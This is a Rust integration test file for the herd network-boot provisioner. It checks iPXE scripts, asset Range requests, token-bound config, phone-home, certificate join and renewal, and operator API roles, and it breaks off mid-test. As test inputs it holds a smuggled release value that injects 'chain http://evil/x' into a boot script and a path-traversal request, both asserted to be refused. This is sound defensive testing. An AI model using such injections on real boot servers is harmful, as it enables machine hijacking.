//! The HTTP side of the boot chain with real clients (curl, udhcpc) in network namespaces: per-machine iPXE
//! scripts, assets with Range/HEAD/keep-alive, the config endpoint bound to MAC + leased address + token,
//! phone-home driving the state machine (no install loops), the timeline and the JSON API. Needs root.

#![allow(clippy::unwrap_used)] // Tests fail loudly on purpose; the lint guards daemons.

mod common;

use std::process::Output;
use std::time::Duration;

use common::Lab;

const NODE1: &str = "52:54:00:99:01:01";
const NODE1_DASHED: &str = "52-54-00-99-01-01";
const NODE2_DASHED: &str = "52-54-00-99-02-01";

fn body(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// curl in the client namespace; prints the body then the status code on the last line.
fn curl(lab: &Lab, args: &[&str]) -> (u16, String) {
    let mut all = vec!["-s", "-w", "\n%{http_code}"];
    all.extend_from_slice(args);
    let out = lab.in_client("curl", &all);
    let text = body(&out);
    let (content, code) = text.rsplit_once('\n').unwrap();
    (code.trim().parse().unwrap_or(0), content.to_owned())
}

/// A lab where the client is node1 with its lease (address configured by udhcpc).
fn booted_lab() -> Lab {
    let mut lab = Lab::qemu3(&[]);
    std::fs::write(lab.assets_dir().join("vmlinuz"), vec![0x5a; 1 << 20]).unwrap();
    std::fs::write(lab.assets_dir().join("initramfs"), b"initramfs bytes").unwrap();
    lab.start();
    lab.set_client_mac(NODE1);
    assert_eq!(lab.udhcpc(&[]).unwrap()["ip"], "10.99.0.11");
    lab
}

fn token_of(script: &str) -> String {
    script.split_whitespace().find_map(|w| w.strip_prefix("herd.token=")).unwrap().to_owned()
}

#[test]
fn scripts_are_per_machine_and_unknown_macs_get_none() {
    let lab = booted_lab();
    let (code, script) = curl(&lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]);
    assert_eq!(code, 200);
    assert!(script.starts_with("#!ipxe\n"), "{script}");
    for needle in [
        "kernel http://10.99.0.2:8080/assets/vmlinuz ",
        "herd.machine=node1",
        "herd.mac=52:54:00:99:01:01",
        "herd.mode=install",
        "herd.provisioner=http://10.99.0.2",
        "console=ttyS0",
        "initrd http://10.99.0.2:8080/assets/initramfs",
    ] {
        assert!(script.contains(needle), "missing {needle:?} in\n{script}");
    }
    assert_eq!(token_of(&script).len(), 32);
    let (again, second) = curl(&lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]);
    assert_eq!(again, 200);
    assert_ne!(token_of(&script), token_of(&second), "a fresh token per boot");
    let (code, _) = curl(&lab, &["http://10.99.0.2/boot/52-54-00-aa-aa-aa.ipxe"]);
    assert_eq!(code, 404);
}

#[test]
fn assets_support_range_head_and_keep_alive_on_both_servers() {
    let lab = booted_lab();
    // The sendfile asset server the scripts point at, and /assets on the main HTTP port.
    for base in ["http://10.99.0.2:8080", "http://10.99.0.2"] {
        let (code, part) = curl(&lab, &["-r", "100-199", &format!("{base}/assets/vmlinuz")]);
        assert_eq!((code, part.len()), (206, 100), "{base}");
        let (code, tail) = curl(&lab, &["-r", "-10", &format!("{base}/assets/initramfs")]);
        assert_eq!((code, tail.as_str()), (206, "amfs bytes"), "{base}");
        let (code, _) = curl(&lab, &["-r", "5000000-", &format!("{base}/assets/vmlinuz")]);
        assert_eq!(code, 416, "{base}");
        let head = lab.in_client("curl", &["-sI", &format!("{base}/assets/vmlinuz")]);
        let head = body(&head).to_ascii_lowercase();
        assert!(head.contains("content-length: 1048576"), "{base}: {head}");
        assert!(head.contains("accept-ranges: bytes"), "{base}: {head}");
        let verbose = lab.in_client(
            "curl",
            &[
                "-sv",
                "-o",
                "/dev/null",
                "-o",
                "/dev/null",
                &format!("{base}/assets/initramfs"),
                &format!("{base}/assets/vmlinuz"),
            ],
        );
        let log = String::from_utf8_lossy(&verbose.stderr);
        assert!(log.contains("Re-using existing connection"), "{base}: {log}");
        let (code, _) = curl(&lab, &["--path-as-is", &format!("{base}/assets/../state/provisioner.redb")]);
        assert!(code == 403 || code == 404, "{base}: {code}");
    }
    let (code, full) = curl(&lab, &["http://10.99.0.2:8080/assets/vmlinuz"]);
    assert_eq!((code, full.len()), (200, 1 << 20));
}

#[test]
fn the_config_goes_only_to_its_machine() {
    let lab = booted_lab();
    let (_, script) = curl(&lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]);
    let token = token_of(&script);
    let url = |mac: &str, token: &str| format!("http://10.99.0.2/config/{mac}?token={token}");

    let (code, json) = curl(&lab, &[&url(NODE1_DASHED, &token)]);
    assert_eq!(code, 200, "{json}");
    let config: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(config["ignition"]["version"], "3.3.0");
    assert!(json.contains("data:,node1%0A"), "its own hostname");

    // Wrong token, another machine's MAC, no token, and the right MAC and token from another address.
    assert_eq!(curl(&lab, &[&url(NODE1_DASHED, "00112233445566778899aabbccddeeff")]).0, 403);
    assert_eq!(curl(&lab, &[&url(NODE2_DASHED, &token)]).0, 403);
    assert_eq!(curl(&lab, &[&format!("http://10.99.0.2/config/{NODE1_DASHED}")]).0, 403);
    lab.client_address("10.99.0.99/24");
    assert_eq!(curl(&lab, &["--interface", "10.99.0.99", &url(NODE1_DASHED, &token)]).0, 403);

    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    let refused: u64 = metrics
        .lines()
        .filter(|l| l.starts_with("herd_http_config_refused_total"))
        .filter_map(|l| l.rsplit(' ').next()?.parse::<u64>().ok())
        .sum();
    assert_eq!(refused, 4, "{metrics}");
    assert!(lab.log().contains("config fetch refused"));
}

#[test]
fn an_installed_machine_boots_locally_until_reprovisioned_and_its_timeline_shows_it_all() {
    let lab = booted_lab();
    let script_url = format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe");
    let (_, script) = curl(&lab, &[&script_url]);
    let token = token_of(&script);
    assert_eq!(curl(&lab, &["-o", "/dev/null", "http://10.99.0.2:8080/assets/vmlinuz"]).0, 200);
    assert_eq!(curl(&lab, &[&format!("http://10.99.0.2/config/{NODE1_DASHED}?token={token}")]).0, 200);
    let phone = |stage: &str, token: &str| {
        curl(
            &lab,
            &[
                "-X",
                "POST",
                "-H",
                "content-type: application/json",
                "-d",
                &format!("{{\"stage\":\"{stage}\",\"detail\":\"test\"}}"),
                &format!("http://10.99.0.2/phone-home/{NODE1_DASHED}?token={token}"),
            ],
        )
    };
    assert_eq!(phone("installed", "wrong").0, 403);
    let (code, reply) = phone("installed", &token);
    assert_eq!(code, 200, "{reply}");
    assert!(reply.contains("\"installed\""), "{reply}");

    // node-init reports its slot table with `configured` and `healthy`: the provisioner keeps it.
    let slots = serde_json::json!({
        "disk": "/dev/vda",
        "booted": "a",
        "slots": [
            {"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576, "size": 1024,
             "header": {"magic": "herd-slot/1", "name": "herd-os", "release": "1", "key": "k", "kernel_version": "6.12",
                        "root_hash": "ab".repeat(32), "data_bytes": 0, "hash_offset": 0}},
            {"slot": "b", "flags": {"priority": 0, "tries": 0, "successful": false}, "offset": 2048, "size": 1024,
             "header": null},
        ],
    });
    let body = serde_json::json!({"stage": "healthy", "detail": "registered", "slots": slots}).to_string();
    let post = ["-X", "POST", "-H", "content-type: application/json", "-d", &body];
    let healthy_url = format!("http://10.99.0.2/phone-home/{NODE1_DASHED}?token={token}");
    let (code, reply) = curl(&lab, &[&post[..], &[healthy_url.as_str()]].concat());
    assert_eq!(code, 200, "{reply}");
    let (_, shown) = lab.admin(&[], "/api/v1/machines/node1");
    let shown: serde_json::Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(shown["slots"], slots, "kept as reported");

    let (_, script) = curl(&lab, &[&script_url]);
    assert!(script.contains("herd.mode=local"), "an installed machine is not installed again:\n{script}");
    assert!(script.contains("slot a: herd-os 1"), "the slot it will boot:\n{script}");
    let (code, _) = lab.admin(&["-X", "POST"], "/api/v1/machines/node1/reprovision");
    assert_eq!(code, 200);
    let (_, script) = curl(&lab, &[&script_url]);
    assert!(script.contains("herd.mode=install"), "{script}");

    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    let events: Vec<String> = serde_json::from_str::<Vec<serde_json::Value>>(&timeline)
        .unwrap()
        .iter()
        .map(|e| e["event"].as_str().unwrap().to_owned())
        .collect();
    for expected in [
        "dhcp-offer",
        "dhcp-ack",
        "script",
        "kernel",
        "config",
        "phone-home:installed",
        "phone-home:healthy",
        "slots",
        "reprovision",
        "state",
    ] {
        assert!(events.iter().any(|e| e == expected), "missing {expected} in {events:?}");
    }
    let (_, list) = lab.admin(&[], "/api/v1/machines");
    let list: Vec<serde_json::Value> = serde_json::from_str(&list).unwrap();
    assert_eq!(list.len(), 3);
    assert_eq!(list[0]["name"], "node1");
    assert_eq!(list[0]["state"], "provisioning");
    assert_eq!(list[1]["state"], "unknown");
    // Paged: at most `limit` machines, the next page after a name; bad paging is refused, not guessed.
    let names = |query: &str| {
        let (code, page) = lab.admin(&[], &format!("/api/v1/machines{query}"));
        let page: Vec<serde_json::Value> = if code == 200 { serde_json::from_str(&page).unwrap() } else { Vec::new() };
        (code, page.iter().map(|m| m["name"].as_str().unwrap().to_owned()).collect::<Vec<_>>())
    };
    assert_eq!(names("?limit=2"), (200, vec!["node1".to_owned(), "node2".to_owned()]));
    assert_eq!(names("?after=node2&limit=2"), (200, vec!["node3".to_owned()]));
    assert_eq!(names("?after=node3"), (200, vec![]));
    assert_eq!(names("?after=nobody").0, 400);
    assert_eq!(names("?limit=0").0, 400);
}

/// A one-slot table as node-init reports it, slot a holding herd-os `release`.
fn slot_table(release: &str) -> serde_json::Value {
    serde_json::json!({
        "disk": "/dev/vda", "booted": "a",
        "slots": [{"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576,
                   "size": 1 << 30,
                   "header": {"magic": "herd-slot/1", "name": "herd-os", "release": release, "key": "k",
                              "kernel_version": "6.12", "root_hash": "ab".repeat(32), "data_bytes": 0,
                              "hash_offset": 0}}],
    })
}

#[test]
fn a_forged_phone_home_is_refused_and_the_next_script_stays_herds_own() {
    let lab = booted_lab();
    let script_url = format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe");
    let token = token_of(&curl(&lab, &[&script_url]).1);
    let url = format!("http://10.99.0.2/phone-home/{NODE1_DASHED}?token={token}");
    let post = |body: &serde_json::Value, from: Option<&str>| {
        let body = body.to_string();
        let mut args = vec!["-X", "POST", "-H", "content-type: application/json", "-d", &body];
        if let Some(ip) = from {
            args.extend(["--interface", ip]);
        }
        args.push(&url);
        curl(&lab, &args)
    };
    // A slot header whose release would end the script's comment line and chain another script: refused, kept
    // nowhere, and the next script is herd's alone.
    let hostile = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slot_table("1\nchain http://evil/x")});
    let (code, reply) = post(&hostile, None);
    assert_eq!(
        (code, reply.trim()),
        (400, "slots.slots[0].header.release: 1-64 characters of A-Z a-z 0-9 . _ + ~ : -")
    );
    let (_, shown) = lab.admin(&[], "/api/v1/machines/node1");
    assert!(!shown.contains("evil"), "{shown}");
    // The right token from another address of the boot network: refused too.
    lab.client_address("10.99.0.98/24");
    let honest = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slot_table("2026.11.0")});
    assert_eq!(post(&honest, Some("10.99.0.98")).0, 403);
    assert_eq!(post(&serde_json::json!({"stage": "installed"}), None).0, 200);
    assert_eq!(post(&honest, None).0, 200);
    let (_, script) = curl(&lab, &[&script_url]);
    assert!(!script.contains("evil"), "{script}");
    assert_eq!(script.lines().filter(|l| l.starts_with("chain ")).count(), 1, "{script}");
    assert!(script.contains("slot a: herd-os 2026.11.0"), "{script}");
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert_eq!(timeline.matches("phone-home-refused").count(), 2, "{timeline}");
    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    for reason in ["invalid-report", "wrong-source"] {
        let line = format!("herd_http_phone_home_refused_total{{reason=\"{reason}\"}} 1");
        assert!(metrics.contains(&line), "{line} in {metrics}");
    }
}

#[test]
fn state_and_timeline_survive_a_kill_9() {
    let mut lab = booted_lab();
    let (_, script) = curl(&lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]);
    let token = token_of(&script);
    lab.kill9();
    lab.start();
    // The token issued before the crash is still the machine's token.
    assert_eq!(curl(&lab, &[&format!("http://10.99.0.2/config/{NODE1_DASHED}?token={token}")]).0, 200);
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert!(timeline.contains("\"script\""), "{timeline}");
    let _ = NODE1;
}

#[test]
fn the_operator_api_lets_in_operators_by_role_and_nobody_else() {
    let lab = booted_lab();
    let reprovision = "/api/v1/machines/node1/reprovision";
    // The boot port serves the machine API to nobody, changes least of all.
    let (code, why) = curl(&lab, &["http://10.99.0.2/api/v1/machines"]);
    assert_eq!(code, 403, "{why}");
    assert!(why.contains("operator API"), "{why}");
    assert_eq!(curl(&lab, &["-X", "POST", &format!("http://10.99.0.2{reprovision}")]).0, 403);
    // Over TLS: no credential, a read-only operator changing something, an unknown token: refused.
    assert_eq!(lab.api(None, &[], "/api/v1/machines").0, 401);
    let reader = lab.pki.reader.clone();
    assert_eq!(lab.api(Some(&reader), &[], "/api/v1/machines").0, 200, "a reader reads");
    let (code, why) = lab.api(Some(&reader), &["-X", "POST"], reprovision);
    assert_eq!(code, 403, "{why}");
    assert!(why.contains("role read-only"), "{why}");
    let bearer = |t: &str| format!("Authorization: Bearer {t}");
    assert_eq!(lab.api(None, &["-X", "POST", "-H", &bearer("not-the-token")], reprovision).0, 401);
    // Another site's operator certificate does not even complete the handshake.
    let other = herd_lab::pki::LabPki::make(&lab.dir.join("other-pki"), "10.99.0.2".parse().unwrap()).unwrap();
    assert_eq!(lab.api(Some(&other.admin), &[], "/api/v1/machines").0, 0);
    // An admin's certificate and the operator token change things, and the timeline says who asked.
    assert_eq!(lab.admin(&["-X", "POST"], reprovision).0, 200);
    assert_eq!(lab.api(None, &["-X", "POST", "-H", &bearer(common::TOKEN)], reprovision).0, 200);
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    for who in ["requested by operator:admin", "requested by token:ci"] {
        assert!(timeline.contains(who), "{who} in {timeline}");
    }
    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    for (reason, n) in [("boot-port", 2), ("no-credential", 1), ("role", 1), ("unknown-token", 1)] {
        let line = format!("herd_api_refused_total{{reason=\"{reason}\"}} {n}");
        assert!(metrics.contains(&line), "{line} in {metrics}");
    }
    assert!(!lab.log().contains(common::TOKEN) && !lab.log().contains("not-the-token"), "a token reached the log");

    // Rotating the site's etcd CA: admins only, once at a time; anyone with a credential reads where it stands.
    let rotate = herd_api::paths::PKI_ROTATE;
    assert_eq!(curl(&lab, &["-X", "POST", &format!("http://10.99.0.2{rotate}")]).0, 403, "from the boot port");
    let (code, why) = lab.api(Some(&reader), &["-X", "POST"], rotate);
    assert_eq!((code, why.contains("read-only")), (403, true), "{why}");
    let (code, why) = lab.api(None, &["-X", "POST", "-H", &bearer(common::TOKEN)], rotate);
    assert_eq!((code, why.contains("needs admin")), (403, true), "an operator (not admin) token: {why}");
    let (code, steady) = lab.api(Some(&reader), &[], herd_api::paths::PKI_ROTATION);
    let steady: herd_api::RotationStatus = serde_json::from_str(&steady).unwrap_or_else(|e| panic!("{e}: {steady}"));
    assert_eq!((code, steady.rotation.as_str()), (200, "steady"));
    let (code, begun) = lab.admin(&["-X", "POST"], rotate);
    assert_eq!(code, 202, "{begun}");
    let begun: herd_api::RotationStatus = serde_json::from_str(&begun).unwrap();
    assert_eq!(begun.rotation, "accepting");
    assert_eq!(begun.trusted.len(), 2, "{begun:?}");
    let (code, why) = lab.admin(&["-X", "POST"], rotate);
    assert_eq!((code, why.contains("under way")), (409, true), "{why}");
    // The configs served from now on pin both CAs.
    let config = fetch_config(&lab);
    let pinned = config_file(&config, &format!("{}/etcd-ca.crt", herd_api::CA_DIR)).unwrap();
    assert_eq!(herd_pki::split_pems(&pinned).len(), 2);
}

#[test]
fn open_reads_serve_the_listing_on_the_boot_port_but_never_a_change() {
    let mut lab = Lab::qemu3(&["--api-reads", "open"]);
    lab.start();
    lab.client_address("10.99.0.50/24");
    let (code, list) = curl(&lab, &["http://10.99.0.2/api/v1/machines"]);
    assert_eq!(code, 200, "{list}");
    assert!(list.contains("node3"), "{list}");
    assert_eq!(curl(&lab, &["-X", "POST", "http://10.99.0.2/api/v1/machines/node1/reprovision"]).0, 403);
}

/// The contents of the file at `path` in a served Ignition config (a `data:,` URL), if any.
fn config_file(config: &serde_json::Value, path: &str) -> Option<String> {
    let files = config["storage"]["files"].as_array()?;
    let source = files.iter().find(|f| f["path"] == path)?["contents"]["source"].as_str()?.to_owned();
    let encoded = source.strip_prefix("data:,")?.as_bytes().to_vec();
    let mut out = Vec::new();
    let mut i = 0;
    while i < encoded.len() {
        if encoded[i] == b'%' {
            out.push(u8::from_str_radix(std::str::from_utf8(&encoded[i + 1..i + 3]).ok()?, 16).ok()?);
            i += 3;
        } else {
            out.push(encoded[i]);
            i += 1;
        }
    }
    String::from_utf8(out).ok()
}

fn fetch_config(lab: &Lab) -> serde_json::Value {
    let (_, script) = curl(lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]);
    let token = token_of(&script);
    let (code, json) = curl(lab, &[&format!("http://10.99.0.2/config/{NODE1_DASHED}?token={token}")]);
    assert_eq!(code, 200, "{json}");
    serde_json::from_str(&json).unwrap()
}

#[test]
fn a_machine_trades_its_one_time_join_credential_for_certificates_of_its_own_keys() {
    let lab = booted_lab();
    let config = fetch_config(&lab);
    let credential = config_file(&config, herd_api::JOIN_CREDENTIAL_PATH).expect("a join credential");
    let etcd_ca = config_file(&config, &format!("{}/etcd-ca.crt", herd_api::CA_DIR)).expect("the etcd CA");
    assert_eq!(etcd_ca, lab.pki.site.ca_pem(herd_pki::Authority::Etcd), "the site's CA, pinned by the machine");
    assert!(!config.to_string().contains("PRIVATE KEY"), "no key in a config");
    let (_machine_key, machine_csr) = herd_pki::request("node1").unwrap();
    let (_, member_csr) = herd_pki::request("node1").unwrap();
    let join = |body: &serde_json::Value, from: Option<&str>| {
        let body = body.to_string();
        let mut args = vec!["-X", "POST", "-H", "content-type: application/json", "-d", &body];
        if let Some(ip) = from {
            args.extend(["--interface", ip]);
        }
        let url = format!("http://10.99.0.2/join/{NODE1_DASHED}");
        args.push(&url);
        curl(&lab, &args)
    };
    let request = |credential: &str, csr: &str| serde_json::json!({"credential": credential, "machine_csr": csr, "member_csr": member_csr});
    // Refused without spending the credential: a request that is not signed, another address, a wrong credential.
    // One base64 character changed in the middle of the request: its signature no longer matches.
    let mut lines: Vec<String> = machine_csr.lines().map(str::to_owned).collect();
    let mid = lines.len() / 2;
    let flipped: String = lines[mid]
        .chars()
        .enumerate()
        .map(|(i, c)| if i == 20 { if c == 'A' { 'B' } else { 'A' } } else { c })
        .collect();
    lines[mid] = flipped;
    let garbled = lines.join("\n") + "\n";
    let (code, why) = join(&request(&credential, &garbled), None);
    assert_eq!(code, 400, "{why}");
    lab.client_address("10.99.0.97/24");
    assert_eq!(join(&request(&credential, &machine_csr), Some("10.99.0.97")).0, 403);
    assert_eq!(join(&request(&"0".repeat(64), &machine_csr), None).0, 403);
    // The machine's own request: certificates for its keys, naming it, from the site's etcd CA.
    let (code, answer) = join(&request(&credential, &machine_csr), None);
    assert_eq!(code, 200, "{answer}");
    let answer: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
    let now = time::OffsetDateTime::now_utc();
    let cert = lab.pki.site.verify(herd_pki::Authority::Etcd, &answer.machine_cert, now).unwrap();
    assert_eq!(cert.holder, Some(herd_pki::Holder::Machine("node1".into())));
    let member = lab.pki.site.verify(herd_pki::Authority::Etcd, answer.member_cert.as_deref().unwrap(), now).unwrap();
    assert_eq!(member.holder, Some(herd_pki::Holder::Member("node1".into())), "node1 is an etcd member");
    // Spent: the same credential again is refused, and so is the old one once a new boot's config is served.
    let (code, why) = join(&request(&credential, &machine_csr), None);
    assert_eq!((code, why.trim()), (403, "the join credential is refused (spent)"));
    let fresh = config_file(&fetch_config(&lab), herd_api::JOIN_CREDENTIAL_PATH).unwrap();
    assert_ne!(fresh, credential);
    assert_eq!(join(&request(&credential, &machine_csr), None).1.trim(), "the join credential is refused (wrong)");
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert!(timeline.contains(&format!("machine:node1 {}", cert.fingerprint)), "{timeline}");
    assert_eq!(timeline.matches("join-refused").count(), 5, "{timeline}");
    assert!(!lab.log().contains(&credential) && !lab.log().contains(&fresh), "a credential reached the log");
    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
    for reason in ["invalid-request", "wrong-source", "wrong", "spent"] {
        assert!(metrics.contains(&format!("herd_http_join_refused_total{{reason=\"{reason}\"}}")), "{reason}");
    }
    // The expiries, as gauges: the CAs', and the soonest among the holders' newest certificates (machine:node1
    // and member:node1 just now, 30 days).
    let gauge = |series: &str| -> i64 {
        let line = metrics.lines().find(|l| l.starts_with(series)).unwrap_or_else(|| panic!("no {series}: {metrics}"));
        line.rsplit(' ').next().unwrap().parse().unwrap()
    };
    let ca_ends = gauge("herd_pki_ca_expiry_timestamp_seconds{authority=\"etcd\"}");
    let soonest = gauge("herd_pki_soonest_expiry_timestamp_seconds{authority=\"etcd\"}");
    assert!(soonest <= cert.not_after && soonest > now.unix_timestamp() && ca_ends > soonest, "{metrics}");
    assert!(metrics.contains("herd_pki_holders{authority=\"etcd\",standing=\"valid\"}"), "{metrics}");
}

#[test]
fn with_registration_closed_configs_carry_no_credential_and_nothing_is_issued() {
    let mut lab = Lab::qemu3(&["--join", "closed"]);
    lab.start();
    lab.set_client_mac(NODE1);
    assert_eq!(lab.udhcpc(&[]).unwrap()["ip"], "10.99.0.11");
    let config = fetch_config(&lab);
    assert!(config_file(&config, herd_api::JOIN_CREDENTIAL_PATH).is_none());
    assert!(config_file(&config, &format!("{}/api-ca.crt", herd_api::CA_DIR)).is_some(), "the CAs still");
    let (_, csr) = herd_pki::request("node1").unwrap();
    let body = serde_json::json!({"credential": "a".repeat(64), "machine_csr": csr}).to_string();
    let url = format!("http://10.99.0.2/join/{NODE1_DASHED}");
    let (code, why) = curl(&lab, &["-X", "POST", "-H", "content-type: application/json", "-d", &body, &url]);
    assert_eq!((code, why.trim()), (403, "registration is closed"));
}

#[test]
fn with_approval_only_keys_an_admin_approved_get_certificates() {
    let mut lab = Lab::qemu3(&["--join", "approve"]);
    lab.start();
    lab.set_client_mac(NODE1);
    assert_eq!(lab.udhcpc(&[]).unwrap()["ip"], "10.99.0.11");
    let credential = config_file(&fetch_config(&lab), herd_api::JOIN_CREDENTIAL_PATH).expect("a join credential");
    let (_, machine_csr) = herd_pki::request("node1").unwrap();
    let (_, member_csr) = herd_pki::request("node1").unwrap();
    let join = |credential: &str, machine_csr: &str| {
        let body = serde_json::json!({"credential": credential, "machine_csr": machine_csr, "member_csr": member_csr});
        let url = format!("http://10.99.0.2/join/{NODE1_DASHED}");
        curl(&lab, &["-X", "POST", "-H", "content-type: application/json", "-d", &body.to_string(), &url])
    };
    // Awaiting: the answer names the keys' fingerprint, the credential is kept, and asking again changes nothing.
    let want = herd_pki::requests_fingerprint(&[&machine_csr, &member_csr]).unwrap();
    for _ in 0..2 {
        let (code, answer) = join(&credential, &machine_csr);
        assert_eq!(code, 202, "{answer}");
        let awaiting: herd_api::JoinAwaiting = serde_json::from_str(&answer).unwrap();
        assert_eq!(awaiting.fingerprint, want);
    }
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert_eq!(timeline.matches("join-awaiting").count(), 1, "{timeline}");
    assert!(timeline.contains(&want), "{timeline}");
    // Only an admin approves, and only the keys that are awaiting.
    let approve = |credential: &std::path::Path, fingerprint: &str| {
        let body = serde_json::json!({ "fingerprint": fingerprint }).to_string();
        let args = ["-X", "POST", "-H", "content-type: application/json", "-d", &body];
        lab.api(Some(credential), &args, "/api/v1/machines/node1/approve")
    };
    assert_eq!(approve(&lab.pki.reader, &want).0, 403, "a read-only operator approved");
    let body = serde_json::json!({ "fingerprint": want }).to_string();
    let args = ["-X", "POST", "-H", "content-type: application/json", "-d", &body];
    assert_eq!(lab.api(None, &args, "/api/v1/machines/node1/approve").0, 401, "approved without a credential");
    let boot_port = "http://10.99.0.2/api/v1/machines/node1/approve";
    assert_eq!(curl(&lab, &[&args[..], &[boot_port]].concat()).0, 403, "approved on the boot port");
    let other = herd_pki::requests_fingerprint(&[&herd_pki::request("node1").unwrap().1]).unwrap();
    assert_eq!(approve(&lab.pki.admin, &other).0, 409, "keys that are not awaiting were approved");
    assert_eq!(approve(&lab.pki.admin, &want).0, 200);
    let (code, answer) = join(&credential, &machine_csr);
    assert_eq!(code, 200, "{answer}");
    let answer: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
    let now = time::OffsetDateTime::now_utc();
    let cert = lab.pki.site.verify(herd_pki::Authority::Etcd, &answer.machine_cert, now).unwrap();
    assert_eq!(cert.holder, Some(herd_pki::Holder::Machine("node1".into())));
    let (_, timeline) = lab.admin(&[], "/api/v1/machines/node1/timeline");
    assert!(timeline.contains("by operator:admin"), "{timeline}");
    // A host that took node1's address and got this boot's config (and credential) with keys of its own: it waits
    // for an approval nobody gives.
    let fresh = config_file(&fetch_config(&lab), herd_api::JOIN_CREDENTIAL_PATH).unwrap();
    let (_, intruder_csr) = herd_pki::request("node1").unwrap();
    assert_eq!(join(&fresh, &intruder_csr).0, 202);
    // The machine's own keys at its next boot: approved already.
    let again = config_file(&fetch_config(&lab), herd_api::JOIN_CREDENTIAL_PATH).unwrap();
    assert_eq!(join(&again, &machine_csr).0, 200);
}

/// POSTs `body` to `path` on the boot port from node1's leased address (or `from`).
fn post_json(lab: &Lab, path: &str, body: &serde_json::Value, from: Option<&str>) -> (u16, String) {
    let body = body.to_string();
    let url = format!("http://10.99.0.2{path}");
    let mut args = vec!["-X", "POST", "-H", "content-type: application/json", "-d", &body];
    if let Some(ip) = from {
        args.extend(["--interface", ip]);
    }
    args.push(&url);
    curl(lab, &args)
}

#[test]
fn a_machine_renews_only_the_certificates_it_holds_proving_it_has_their_keys() {
    let lab = booted_lab();
    let credential = config_file(&fetch_config(&lab), herd_api::JOIN_CREDENTIAL_PATH).expect("a join credential");
    let (machine_key, machine_csr) = herd_pki::request("node1").unwrap();
    let (member_key, member_csr) = herd_pki::request("node1").unwrap();
    let join = serde_json::json!({"credential": credential, "machine_csr": machine_csr, "member_csr": member_csr});
    let (code, answer) = post_json(&lab, &format!("/join/{NODE1_DASHED}"), &join, None);
    assert_eq!(code, 200, "{answer}");
    let joined: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
    let member_cert = joined.member_cert.clone().unwrap();
    let renew_path = format!("/renew/{NODE1_DASHED}");
    let renewal = |machine_cert: &str, machine_csr: &str| {
        serde_json::json!({"machine_cert": machine_cert, "machine_csr": machine_csr,
            "member_cert": member_cert, "member_csr": herd_pki::request_for(&member_key, "member:node1").unwrap()})
    };
    let fresh_csr = || herd_pki::request_for(&machine_key, "machine:node1").unwrap();
    // Refused: another address; a request of another key; a certificate of another CA, an ended one, one that names
    // the member for the machine's.
    lab.client_address("10.99.0.97/24");
    let (code, why) = post_json(&lab, &renew_path, &renewal(&joined.machine_cert, &fresh_csr()), Some("10.99.0.97"));
    assert_eq!((code, why.trim()), (403, "not node1's address"));
    let (_, stranger_csr) = herd_pki::request("machine:node1").unwrap();
    let (code, why) = post_json(&lab, &renew_path, &renewal(&joined.machine_cert, &stranger_csr), None);
    assert_eq!((code, why.trim()), (403, "machine_csr: the request is not signed by the certificate's key"));
    let elsewhere = tempfile::tempdir().unwrap();
    let now = time::OffsetDateTime::now_utc();
    let other_site = herd_pki::Site::init(elsewhere.path(), "other", now).unwrap();
    let subject = |validity| herd_pki::Subject::new(herd_pki::Holder::Machine("node1".into()), validity);
    let source = herd_pki::KeySource::Request(&machine_csr);
    let foreign =
        other_site.issue(herd_pki::Authority::Etcd, &subject(time::Duration::days(30)), source, now).unwrap().cert_pem;
    let (code, why) = post_json(&lab, &renew_path, &renewal(&foreign, &fresh_csr()), None);
    assert_eq!(code, 403, "{why}");
    assert!(why.starts_with("machine_cert: ") && why.contains("etcd CA"), "{why}");
    // Issued four minutes ago (the lab's CA is valid from five minutes before it was made) for one minute.
    let (a_minute, ago) = (time::Duration::minutes(1), now - time::Duration::minutes(4));
    let ended = lab.pki.site.issue(herd_pki::Authority::Etcd, &subject(a_minute), source, ago).unwrap().cert_pem;
    let (code, why) = post_json(&lab, &renew_path, &renewal(&ended, &fresh_csr()), None);
    assert_eq!(code, 403, "{why}");
    assert!(why.contains("expired"), "{why}");
    let (code, why) = post_json(&lab, &renew_path, &renewal(&member_cert, &fresh_csr()), None);
    assert_eq!((code, why.trim()), (403, "machine_cert: a certificate for member:node1, not machine:node1"));
    // The machine's own certificates and keys: new certificates for the same keys.
    let (code, answer) = post_json(&lab, &renew_path, &renewal(&joined.machine_cert, &fresh_csr()), None);
    assert_eq!(code, 200, "{answer}");
    let renewed: herd_api::JoinAnswer = serde_json::from_str(&answer).unwrap();
    let now = time::OffsetDateTime::now_utc();
    let before = lab.pki.site.verify(herd_pki::Authority::Etcd, &joined.machine_cert, now).unwrap();
    let after = lab.pki.site.verify(herd_pki::Authority::Etcd, &renewed.machine_cert, now).unwrap();
    assert_eq!(after.holder, Some(herd_pki::Holder::Machine("node1".into())));
    assert_ne!(after.serial, before.serial);
